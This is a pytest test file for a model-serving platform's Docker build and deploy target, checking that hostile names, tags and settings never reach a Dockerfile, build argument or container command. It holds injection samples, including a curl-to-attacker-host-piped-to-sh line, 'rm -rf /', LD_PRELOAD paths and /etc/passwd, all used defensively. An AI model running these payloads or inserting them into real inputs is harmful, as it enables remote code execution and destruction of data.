"""The Docker target without an engine: the fixed Dockerfile template, the exact build context,
target settings, and hostile names, tags and environment values that must never reach a
Dockerfile instruction, a build argument or a container command."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import tarfile
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.conf import settings as django_settings
from django.utils import timezone

from common.errors import ApplicationError
from deployments.models import Build, BuildStatus, Endpoint, Target, TargetKind
from deployments.targets.base import DriverError, ServerSpec, installation_id
from deployments.targets.docker import images
from deployments.targets.docker.driver import DockerDriver, docker_settings
from registry.models import RegisteredModel
from tests.deployments.conftest import make_version

TEMPLATE = (
    Path(django_settings.BASE_DIR) / "deployments" / "targets" / "docker" / "Dockerfile.serving"
)
HOSTILE = 'evil"\nRUN curl http://attacker.invalid/x | sh #$(id)`id`${PATH}'


@pytest.fixture
def wheelhouse(tmp_path, settings):
    """A wheelhouse laid out like prepare_wheelhouse.py's (contents do not matter here)."""
    (tmp_path / "deps").mkdir()
    (tmp_path / "runtime").mkdir()
    for name in ("numpy-2.0-cp311-cp311-manylinux_2_17_x86_64.whl", "orjson-3.0-py3-none-any.whl"):
        (tmp_path / "deps" / name).write_bytes(b"wheel " + name.encode())
    (tmp_path / "deps" / ".requirements.sha256").write_text("stamp")
    (tmp_path / "runtime" / "modeldeck_runtime-0.1.0-py3-none-any.whl").write_bytes(b"runtime")
    settings.MODELDECK_WHEELHOUSE = str(tmp_path)
    return tmp_path


@pytest.fixture
def docker_target(team):
    return Target.objects.create(team=team, name="docker-unit", kind=TargetKind.DOCKER, config={})


def instructions(dockerfile: str) -> list[str]:
    """The Dockerfile's instructions, continuation lines joined, comments dropped."""
    joined = re.sub(r"\\\n\s*", " ", dockerfile)
    return [
        line.strip() for line in joined.splitlines() if line.strip() and not line.startswith("#")
    ]


def unpack(context: images.BuildContext) -> tarfile.TarFile:
    context.fileobj.seek(0)
    return tarfile.open(fileobj=io.BytesIO(context.fileobj.read()))


# --- the template and the context --------------------------------------------------------------


def test_dockerfile_template_is_fixed_and_orders_layers_for_the_cache():
    steps = instructions(TEMPLATE.read_text())
    keywords = [step.split()[0] for step in steps]
    assert keywords == [
        "ARG", "FROM", "ENV", "COPY", "RUN", "COPY", "RUN",
        "FROM", "COPY", "RUN", "ENV", "USER", "WORKDIR", "EXPOSE", "CMD", "COPY",
    ]  # fmt: skip
    # The only variable is the base image, given by the build API from a checked reference.
    assert re.findall(r"\$\{?(\w+)", TEMPLATE.read_text()) == ["BASE_IMAGE", "BASE_IMAGE"]
    copies = [step for step in steps if step.startswith("COPY")]
    assert copies == [
        "COPY wheels/deps/ /tmp/wheels/deps/",
        "COPY wheels/runtime/ /tmp/wheels/runtime/",
        "COPY --from=runtime /opt/modeldeck /opt/modeldeck",
        "COPY model/ /opt/model/",
    ]
    assert steps[-1] == "COPY model/ /opt/model/"
    assert "USER 10001:10001" in steps
    assert not any(step.startswith(("ADD", "ONBUILD", "SHELL", "ENTRYPOINT")) for step in steps)


@pytest.mark.django_db
def test_build_context_holds_exactly_the_listed_files(wheelhouse, versions):
    version = versions[2]
    context = images.build_context(version=version)
    assert context.members == [
        "Dockerfile",
        "wheels/deps/",
        "wheels/deps/numpy-2.0-cp311-cp311-manylinux_2_17_x86_64.whl",
        "wheels/deps/orjson-3.0-py3-none-any.whl",
        "wheels/runtime/",
        "wheels/runtime/modeldeck_runtime-0.1.0-py3-none-any.whl",
        "model/",
        "model/model.onnx",
        "model/modeldeck.json",
    ]
    archive = unpack(context)
    assert archive.getnames() == [name.rstrip("/") for name in context.members]
    for member in archive.getmembers():
        # Fixed metadata: the same inputs give the same layers on any worker.
        assert (member.uid, member.gid, member.mtime) == (0, 0, images.CONTEXT_MTIME)
        assert member.mode == (0o755 if member.isdir() else 0o644)
    assert archive.extractfile("Dockerfile").read() == TEMPLATE.read_bytes()
    artifact = version.model_artifact
    from registry.storage import artifact_storage

    with artifact_storage().open(artifact.storage_key, "rb") as stored:
        assert archive.extractfile("model/model.onnx").read() == stored.read()
    manifest = json.loads(archive.extractfile("model/modeldeck.json").read())
    assert manifest == {
        "model": "adder",
        "number": 2,
        "version": "adder:2",
        "version_id": version.pk,
        "sha256": artifact.sha256,
        "signature": version.signature,
    }


@pytest.mark.django_db
def test_build_context_adds_the_reference_profile_when_the_version_has_one(wheelhouse, versions):
    version = versions[1]
    version.reference_profile = {"features": {"x": {"kind": "numeric"}}}
    version.save()
    context = images.build_context(version=version)
    assert context.members[-1] == "model/reference.json"
    assert json.loads(unpack(context).extractfile("model/reference.json").read()) == {
        "features": {"x": {"kind": "numeric"}}
    }


@pytest.mark.django_db
def test_a_model_file_that_does_not_match_its_sha256_is_not_packed(wheelhouse, versions):
    artifact = versions[1].model_artifact
    artifact.sha256 = "0" * 64
    artifact.save()
    with pytest.raises(images.BuildError, match="does not match its sha256"):
        images.build_context(version=versions[1])


@pytest.mark.django_db
def test_an_unprepared_wheelhouse_fails_with_the_command_to_run(tmp_path, settings, versions):
    settings.MODELDECK_WHEELHOUSE = str(tmp_path)
    with pytest.raises(images.BuildError, match=r"prepare_wheelhouse\.py"):
        images.build_context(version=versions[1])


# --- hostile input ----------------------------------------------------------------------------


class FakeApi:
    """Records what would be sent to the engine's build API."""

    def __init__(self) -> None:
        self.builds: list[dict] = []

    def build(self, **arguments):
        context = arguments.pop("fileobj")
        context.seek(0)
        archive = tarfile.open(fileobj=io.BytesIO(context.read()))  # noqa: SIM115
        arguments["files"] = {
            member.name: archive.extractfile(member).read()
            for member in archive.getmembers()
            if member.isfile() and not member.name.endswith(".whl")
        }
        self.builds.append(arguments)
        yield {"stream": "Step 1/2 : FROM base\n"}
        yield {"stream": "Step 2/2 : COPY model/ /opt/model/\n"}
        yield {"aux": {"ID": "sha256:" + "a" * 64}}

    def inspect_image(self, reference):
        return {"Id": reference}

    def tag(self, image, repository, tag):
        self.tags = [*getattr(self, "tags", []), (image, repository, tag)]

    def push(self, repository, **arguments):
        self.pushes = [*getattr(self, "pushes", []), (repository, arguments)]
        yield {"status": "Pushed"}
        yield {"status": f"{arguments['tag']}: digest: sha256:{'d' * 64} size: 1234"}


@pytest.fixture
def fake_engine(monkeypatch):
    api = FakeApi()
    monkeypatch.setattr(images, "docker_client", lambda config: SimpleNamespace(api=api))
    return api


def _hostile_model(team, name: str) -> RegisteredModel:
    # Straight into the table, past the validators, as a compromised admin or a bug could.
    return RegisteredModel.objects.create(
        team=team, name=name, description=HOSTILE, tags={"owner": HOSTILE, HOSTILE: "x"}
    )


@pytest.mark.django_db
def test_a_hostile_model_name_fails_the_build_before_the_engine_is_asked(
    wheelhouse, team, docker_target, fake_engine
):
    version = make_version(_hostile_model(team, HOSTILE), number=1)
    build = images.build_request(version=version, target=docker_target)
    images.build_version_image(build.pk)
    build.refresh_from_db()
    assert build.status == BuildStatus.FAILED
    assert "model name" in build.status_reason and "not well-formed" in build.status_reason
    assert fake_engine.builds == []


@pytest.mark.django_db
def test_hostile_tags_descriptions_and_tensor_names_stay_data(
    wheelhouse, team, docker_target, fake_engine
):
    version = make_version(_hostile_model(team, "plain-name"), number=7)
    version.signature = {
        "inputs": [{"name": HOSTILE, "datatype": "FP32", "shape": [-1, 1]}],
        "outputs": [{"name": "y", "datatype": "FP32", "shape": [-1, 1]}],
    }
    version.save()
    build = images.build_request(version=version, target=docker_target)
    images.build_version_image(build.pk)
    build.refresh_from_db()
    assert build.status == BuildStatus.SUCCEEDED, build.status_reason
    (sent,) = fake_engine.builds
    assert sent["files"]["Dockerfile"] == TEMPLATE.read_bytes()
    assert sent["buildargs"] == {"BASE_IMAGE": "modeldeck/base:bookworm"}
    assert sent["network_mode"] == "none"
    assert sent["pull"] is False
    assert sent["labels"] == {
        "org.opencontainers.image.title": "modeldeck-serving",
        "modeldeck.model": "plain-name",
        "modeldeck.model-version": "7",
        "modeldeck.version": str(version.pk),
        "modeldeck.sha256": version.model_artifact.sha256,
        "modeldeck.build": str(build.pk),
    }
    assert sent["tag"] == (
        f"modeldeck/serving:version-{version.pk}-build-{build.pk}-{installation_id()}"
    )
    # The hostile text travels only as JSON data inside the model folder.
    manifest = json.loads(sent["files"]["model/modeldeck.json"])
    assert manifest["signature"]["inputs"][0]["name"] == HOSTILE
    outside = json.dumps({k: v for k, v in sent.items() if k != "files"})
    assert "attacker" not in outside and "attacker" not in sent["files"]["Dockerfile"].decode()


@pytest.mark.django_db
def test_a_hostile_base_image_in_the_build_row_is_refused(
    wheelhouse, versions, docker_target, fake_engine
):
    build = Build.objects.create(
        version=versions[1], target=docker_target, base_image="x\nRUN id", status="pending"
    )
    images.build_version_image(build.pk)
    build.refresh_from_db()
    assert build.status == BuildStatus.FAILED
    assert "base image" in build.status_reason
    assert fake_engine.builds == []


@pytest.mark.django_db
def test_registry_credentials_come_from_the_named_environment_variables_only(
    wheelhouse, versions, team, fake_engine, monkeypatch
):
    registry = {
        "repository": "registry.example.com/ml/serving",
        "username_env": "MODELDECK_TARGET_TEST_REGISTRY_USER",
        "password_env": "MODELDECK_TARGET_TEST_REGISTRY_PASSWORD",
    }
    target = Target.objects.create(
        team=team, name="docker-push", kind=TargetKind.DOCKER, config={"registry": registry}
    )
    monkeypatch.delenv("MODELDECK_TARGET_TEST_REGISTRY_USER", raising=False)
    monkeypatch.delenv("MODELDECK_TARGET_TEST_REGISTRY_PASSWORD", raising=False)
    build = images.build_request(version=versions[1], target=target)
    images.build_version_image(build.pk)
    build.refresh_from_db()
    assert build.status == BuildStatus.FAILED
    assert build.status_reason == (
        "Registry credentials are missing: set MODELDECK_TARGET_TEST_REGISTRY_USER and "
        "MODELDECK_TARGET_TEST_REGISTRY_PASSWORD in the worker's environment."
    )

    monkeypatch.setenv("MODELDECK_TARGET_TEST_REGISTRY_USER", "robot")
    monkeypatch.setenv("MODELDECK_TARGET_TEST_REGISTRY_PASSWORD", "s3cret-value")
    build = images.build_request(version=versions[2], target=target)
    assert build.repository == "registry.example.com/ml/serving"
    images.build_version_image(build.pk)
    build.refresh_from_db()
    assert build.status == BuildStatus.SUCCEEDED, build.status_reason
    tag = f"version-{versions[2].pk}-build-{build.pk}-{installation_id()}"
    ((repository, arguments),) = fake_engine.pushes[-1:]
    assert repository == "registry.example.com/ml/serving"
    assert arguments["tag"] == tag
    assert arguments["auth_config"] == {"username": "robot", "password": "s3cret-value"}
    assert build.image == f"registry.example.com/ml/serving:{tag}"
    assert build.digest == "sha256:" + "d" * 64
    assert images.deploy_reference(build) == f"registry.example.com/ml/serving@sha256:{'d' * 64}"
    stored = json.dumps([build.log, build.status_reason, target.config])
    assert "s3cret-value" not in stored


@pytest.mark.django_db
def test_builds_are_reused_claimed_once_and_replaced_when_lost(
    wheelhouse, versions, docker_target, fake_engine
):
    first = images.build_request(version=versions[1], target=docker_target)
    assert first.status == BuildStatus.PENDING
    assert images.build_request(version=versions[1], target=docker_target).pk == first.pk
    images.build_version_image(first.pk)
    images.build_version_image(first.pk)  # a redelivered task does nothing
    assert len(fake_engine.builds) == 1
    # A succeeded build whose image the engine still has is reused, not rebuilt.
    assert images.build_request(version=versions[1], target=docker_target).pk == first.pk
    assert images.ensure_version_image(version=versions[1], target=docker_target).pk == first.pk
    assert len(fake_engine.builds) == 1

    # A build whose worker died is failed and replaced at once.
    lost = Build.objects.create(
        version=versions[2], target=docker_target, base_image="modeldeck/base:bookworm",
        status=BuildStatus.RUNNING,
    )  # fmt: skip
    long_ago = timezone.now() - timedelta(seconds=images.build_stale_seconds() + 60)
    Build.objects.filter(pk=lost.pk).update(updated_at=long_ago)
    replacement = images.build_request(version=versions[2], target=docker_target)
    lost.refresh_from_db()
    assert lost.status == BuildStatus.FAILED
    assert lost.status_reason == "The build stopped making progress (its worker was lost)."
    assert (replacement.pk != lost.pk, replacement.status) == (True, BuildStatus.PENDING)

    # A build that just failed is not retried on every reconcile; later it is.
    Build.objects.filter(pk=replacement.pk).update(
        status=BuildStatus.FAILED, status_reason="broken", finished_at=timezone.now()
    )
    with pytest.raises(DriverError, match="failed: broken"):
        images.ensure_version_image(version=versions[2], target=docker_target)
    Build.objects.filter(pk=replacement.pk).update(finished_at=long_ago)
    retried = images.ensure_version_image(version=versions[2], target=docker_target)
    assert retried.pk not in (lost.pk, replacement.pk)
    assert retried.status == BuildStatus.SUCCEEDED
    assert retried.progress == 100


class RecordingDriver(DockerDriver):
    """The docker driver with the engine replaced by a recorder of what would be started."""

    def __init__(self, target) -> None:
        super().__init__(target)
        self.started: list[dict] = []

    def _get(self, name_or_id):
        return None

    def _network(self, endpoint):
        return f"mdk-{self.installation}-e{endpoint.pk}"

    def _image_for(self, *, version_id):
        return SimpleNamespace(pk=5), "sha256:" + "b" * 64

    def _gateway_image(self, endpoint):
        return self._image_for(version_id=0)

    def _gateway_port(self, endpoint):
        return [19100]

    def _start(self, **arguments):
        self.started.append(arguments)
        return SimpleNamespace(id="c" * 64)

    def _summary(self, container):
        return SimpleNamespace(id=container.id, attrs={"State": "created", "Labels": {}})

    def _log_tail(self, container_id):
        return ""


def _spec(endpoint, **overrides) -> ServerSpec:
    values = {
        "endpoint_id": endpoint.pk, "endpoint_name": endpoint.name, "version_id": 11,
        "version": "adder:3", "model_name": "adder", "version_number": 3, "release_number": 2,
        "role": "candidate",
    }  # fmt: skip
    values.update(overrides)
    return ServerSpec(**values)


@pytest.mark.django_db
def test_server_and_gateway_commands_are_fixed_words_and_checked_values(team):
    target = Target.objects.create(
        team=team, name="docker-cmd", kind=TargetKind.DOCKER,
        config={"threads": 2, "env": {"OMP_WAIT_POLICY": HOSTILE.replace("\n", " ")}},
    )  # fmt: skip
    endpoint = Endpoint(pk=42, name="shop", team=team, target=target)
    driver = RecordingDriver(target)
    driver.ensure_server(endpoint=endpoint, spec=_spec(endpoint))
    driver.ensure_gateway(endpoint=endpoint)
    server, gateway = driver.started
    assert server["name"] == f"mdk-{installation_id()}-e42-v11"
    assert server["command"] == [
        "modeldeck-serve", "--model-dir", "/opt/model", "--model-name", "shop",
        "--model-version", "adder:3", "--variant", "candidate", "--endpoint", "shop",
        "--threads", "2", "--host", "0.0.0.0", "--port", "8080", "--drain-seconds", "8",  # noqa: S104
    ]  # fmt: skip
    assert server["image"] == "sha256:" + "b" * 64
    assert server["ports"] == {"8080/tcp": ("127.0.0.1", None)}
    # A target's environment values are data for the process, never words of its command.
    assert server["environment"] == {"OMP_WAIT_POLICY": HOSTILE.replace("\n", " ")}
    assert gateway["name"] == f"mdk-{installation_id()}-e42-gateway"
    assert gateway["command"] == [
        "modeldeck-gateway", "--endpoint", "shop", "--state-file", "/var/lib/modeldeck/routes.json",
        "--host", "0.0.0.0", "--port", "8000", "--drain-seconds", "8",  # noqa: S104
    ]  # fmt: skip
    assert gateway["environment"]["MODELDECK_GATEWAY_ADMIN_TOKEN"] == endpoint.gateway_token
    assert gateway["ports"] == {"8000/tcp": ("127.0.0.1", 19100)}
    assert gateway["volumes"] == {
        f"mdk-{installation_id()}-e42-gateway": {"bind": "/var/lib/modeldeck", "mode": "rw"}
    }


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("endpoint_name", "overrides"),
    [
        ("shop; rm -rf /", {}),
        ("Shop", {}),
        ("shop", {"version": "adder:3 --host 0.0.0.0"}),
        ("shop", {"version": HOSTILE}),
        ("shop", {"role": "primary --admin-token x"}),
    ],
)
def test_hostile_names_never_reach_a_container_command(team, endpoint_name, overrides):
    target = Target.objects.create(team=team, name="docker-evil", kind=TargetKind.DOCKER)
    endpoint = Endpoint(pk=43, name=endpoint_name, team=team, target=target)
    driver = RecordingDriver(target)
    with pytest.raises(DriverError, match="Refusing to start a container"):
        driver.ensure_server(endpoint=endpoint, spec=_spec(endpoint, **overrides))
    if endpoint_name != "shop":
        with pytest.raises(DriverError, match="Refusing to start a container"):
            driver.ensure_gateway(endpoint=endpoint)
    assert driver.started == []


# --- target settings --------------------------------------------------------------------------


def test_docker_settings_defaults_are_the_locked_down_ones():
    config = docker_settings({})
    assert config.base_image == "modeldeck/base:bookworm"
    assert config.publish_host == "127.0.0.1"
    assert config.access_host == "127.0.0.1"
    assert (config.mem_limit, config.gateway_mem_limit, config.pids_limit) == (
        1024**3, 256 * 1024**2, 256,
    )  # fmt: skip
    assert config.registry is None and config.env == {}


def test_docker_settings_read_every_option(settings):
    settings.TARGET_CREDENTIALS_DIR = "/etc/modeldeck"
    config = docker_settings({
        "docker_host": "tcp://docker.internal:2376", "tls_ca_cert": "/etc/modeldeck/ca.pem",
        "tls_client_cert": "/etc/modeldeck/cert.pem", "tls_client_key": "/etc/modeldeck/key.pem",
        "base_image": "registry.example.com:5000/ml/base:bookworm-3", "publish_host": "0.0.0.0",  # noqa: S104
        "gateway_port_range": "20000-20009", "mem_limit": "2g", "gateway_mem_limit": "128m",
        "pids_limit": 512, "cpus": 1.5, "threads": 2, "env": {"OMP_NUM_THREADS": "2"},
        "registry": {"repository": "registry.example.com:5000/ml/serving",
                     "username_env": "MODELDECK_TARGET_REGISTRY_USER",
                     "password_env": "MODELDECK_TARGET_REGISTRY_PASSWORD"},
        "runtime": "runsc",
    })  # fmt: skip
    assert config.access_host == "127.0.0.1"  # 0.0.0.0 publishes everywhere; the worker uses lo
    assert config.gateway_ports == range(20000, 20010)
    assert config.mem_limit == 2 * 1024**3
    assert config.registry["repository"] == "registry.example.com:5000/ml/serving"


@pytest.mark.parametrize(
    "config",
    [
        {"unknown": 1},
        {"docker_host": "tcp://host:2375; rm -rf /"},
        {"tls_ca_cert": "relative/ca.pem"},
        {"tls_client_cert": "/etc/cert.pem"},
        {"tls_ca_cert": "/etc/passwd"},
        {
            "registry": {
                "repository": "r.example.com/x",
                "username_env": "SECRET_KEY",
                "password_env": "MODELDECK_TARGET_REGISTRY_PASSWORD",
            }
        },
        {
            "registry": {
                "repository": "r.example.com/x",
                "username_env": "MODELDECK_TARGET_U",
                "password_env": "DATABASE_URL",
            }
        },
        {"base_image": "evil image"},
        {"base_image": "modeldeck/base:bookworm\nRUN id"},
        {"publish_host": "localhost"},
        {"access_host": "host name"},
        {"gateway_port_range": "80-90"},
        {"mem_limit": "lots"},
        {"mem_limit": "1k"},
        {"pids_limit": 5},
        {"cpus": True},
        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
        {"env": {"PYTHONSTARTUP": "/tmp/x.py"}},
        {"env": {"MODELDECK_GATEWAY_ADMIN_TOKEN": "guessable"}},
        {"env": {"lower": "x"}},
        {"env": {"OK": "two\nlines"}},
        {"env": {"OK": 3}},
        {"registry": {"repository": "no-domain"}},
        {"registry": {"repository": "r.example.com/x", "username_env": "USER"}},
        {"registry": {"repository": "r.example.com/x", "password": "plain-text"}},
        {"runtime": "../../bin/sh"},
    ],
)
def test_bad_target_settings_are_refused_by_name(config):
    with pytest.raises(ApplicationError) as caught:
        DockerDriver.validate_config(config)
    assert str(caught.value).startswith("Docker target setting ")


# --- the tier itself -------------------------------------------------------------------------


def _run_engine_test(environment: dict[str, str]) -> subprocess.CompletedProcess:
    test = (
        "tests/deployments/test_docker_engine.py::test_serving_image_runs_locked_down_and_answers"
    )
    return subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", test],
        cwd=django_settings.BASE_DIR, capture_output=True, text=True, timeout=300,
        env={**os.environ, "DOCKER_HOST": "unix:///nonexistent/docker.sock", **environment},
    )  # fmt: skip


@pytest.mark.slow
def test_engine_tests_skip_without_an_engine_but_fail_when_the_tier_is_required():
    skipped = _run_engine_test({"MODELDECK_REQUIRE_TIERS": ""})
    assert skipped.returncode == 0, skipped.stdout[-2000:]
    assert "1 skipped" in skipped.stdout
    required = _run_engine_test({"MODELDECK_REQUIRE_TIERS": "browser,docker"})
    assert required.returncode == 1, required.stdout[-2000:]
    assert "the docker tier must run here" in required.stdout
